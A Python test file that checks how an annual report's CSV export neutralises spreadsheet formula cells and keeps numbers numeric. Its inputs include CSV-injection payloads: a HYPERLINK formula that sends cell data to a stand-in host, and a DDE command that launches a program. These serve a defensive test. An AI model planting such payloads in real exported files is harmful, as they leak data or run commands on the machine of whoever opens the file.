"""The annual report's CSV, as a French spreadsheet opens it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from domain.model import Direction
from domain.report import AnnualReport, MonthTasks, PortfolioReport, report_csv
from domain.scorecard import IndicatorScore, Scorecard, Status, TaskScore, Trend

NOW = datetime(2027, 11, 2, 9, tzinfo=UTC)


def score(indicator: str, name: str, value: float | None, **changes: object) -> IndicatorScore:
    fields: dict[str, object] = {
        "indicator": indicator,
        "name": name,
        "unit": "percent",
        "direction": Direction.decrease,
        "baseline": 2.0,
        "target": -1.5,
        "value": value,
        "previous": None,
        "progress": None,
        "status": Status.on_track,
        "trend": Trend.stable,
        "rule": "cible atteinte",
    }
    return IndicatorScore.model_validate(fields | changes)


def rows_of(*scores: IndicatorScore) -> list[list[str]]:
    card = Scorecard(
        portfolio="restauration",
        year=2027,
        computed_at=NOW,
        indicators=list(scores),
        tasks=TaskScore(total=3, done_on_time=2),
    )
    report = AnnualReport(
        organisation="Département Test",
        year=2027,
        generated_at=NOW,
        portfolios=[
            PortfolioReport(
                portfolio="restauration",
                name="Restauration",
                phase="evaluating",
                scorecard=card,
                months=[MonthTasks(month=1)],
            )
        ],
    )
    return list(csv.reader(io.StringIO(report_csv(report)), delimiter=";"))


def test_csv_formula_cells_are_neutralised_and_negative_numbers_stay_numbers() -> None:
    rows = rows_of(
        score("lien", '=HYPERLINK("https://evil.test/?"&A1;"Voir")', -3.5),
        score("somme", "+SUM(A1:A9)", 12.25, rule="-2+3"),
        score("cmd", "@cmd|' /C calc'!A0", None),
        score("tab", "\t=1+1", 1e-7),
        score("retour", "\r=1+1", -1200000.0),
        score("nan", "Ligne ordinaire - sans formule", float("nan")),
    )
    names = [row[2] for row in rows[1:7]]
    assert names == [
        '\'=HYPERLINK("https://evil.test/?"&A1;"Voir")',
        "'+SUM(A1:A9)",
        "'@cmd|' /C calc'!A0",
        "'\t=1+1",
        "'\r=1+1",
        "Ligne ordinaire - sans formule",  # only the first character matters
    ]
    assert rows[2][11] == "'-2+3"  # text, even one a person could take for a sum
    values = [(row[5], row[6], row[7]) for row in rows[1:7]]
    assert values == [
        ("-3,5", "-1,5", "2"),  # real numbers keep their sign: the spreadsheet sums them
        ("12,25", "-1,5", "2"),
        ("", "-1,5", "2"),
        ("1e-07", "-1,5", "2"),
        ("-1,2e+06", "-1,5", "2"),
        ("", "-1,5", "2"),  # NaN is no figure; it is left empty rather than written "nan"
    ]
    assert ["restauration", "3", "2", "0", "0", "0"] in rows  # the tasks' row
